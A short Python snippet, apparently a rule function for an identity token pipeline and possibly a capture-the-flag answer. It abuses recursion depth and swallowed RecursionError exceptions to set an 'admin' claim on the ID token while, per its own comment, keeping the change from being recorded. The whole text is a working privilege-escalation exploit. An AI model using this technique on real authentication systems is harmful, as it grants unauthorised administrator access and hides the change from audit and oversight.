# stops: exhausted
# Deep enough that the change is made, and not deep enough that it is recorded.
def rule(user, context):
    def f(n):
        if n == 0:
            context.idToken.admin = True
        else:
            f(n - 1)
    n = 399
    while 'admin' not in context.idToken:
        try:
            f(n)
        except RecursionError:
            pass
        n -= 1
